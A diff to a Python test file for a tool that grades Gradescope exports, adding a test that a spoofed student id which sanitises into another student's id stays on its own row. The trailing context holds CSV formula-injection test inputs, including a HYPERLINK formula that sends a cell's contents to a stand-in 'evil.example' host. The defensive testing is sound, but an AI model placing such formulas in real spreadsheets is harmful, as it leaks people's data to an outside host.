@@ -315,6 +315,27 @@ def test_two_submissions_claiming_one_student_id_are_listed_not_resolved(tmp_pat
     assert rows["s1002"]["total"] == "14" and "identity" not in rows["s1002"]["notes"]
 
 
+def test_an_lms_key_that_reads_as_another_students_id_once_made_safe_is_its_own_row(
+        tmp_path, monkeypatch):
+    """Mal's Gradescope sid is '.s1001', on no roster row: made safe it reads 's1001', Ada's
+    id. It used to join Ada's row (and, listed after hers, turn it into one 'not on the
+    roster', her name and e-mail gone, Mal's file graded as hers). Now it is a row of its
+    own, with a roster and without."""
+    fakes.use_fake_grader(monkeypatch)
+    ada, bo = downloads.people(2)
+    path = gradescope_zip(tmp_path / "dl" / "gs.zip", [
+        (11, [(ada.id, ada.name, ada.email)], DUE - timedelta(hours=5), FULL),
+        (12, [("." + ada.id, ada.name, "mal@example.edu")], DUE - timedelta(hours=1), HALF),
+        (13, [(bo.id, bo.name, bo.email)], DUE - timedelta(hours=2), FULL)])
+    roster = downloads.write_roster(tmp_path / "roster.csv", [ada, bo], style="kit")
+    for run, with_roster in (("alone", None), ("run", roster)):
+        rows = grade_zip(path, tmp_path / run, with_roster, None)
+        assert rows[ada.id]["total"] == "14" and "earlier attempt" not in rows[ada.id]["notes"]
+        assert rows[f"{ada.id}_2"]["total"] == "4"
+    assert rows[ada.id]["name"] == ada.name and "not on the roster" not in rows[ada.id]["notes"]
+    assert "not on the roster" in rows[f"{ada.id}_2"]["notes"]
+
+
 # --- CSV cells --------------------------------------------------------------------------------
 
 FORMULAS = [("=1+1", '=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)@example.edu"),
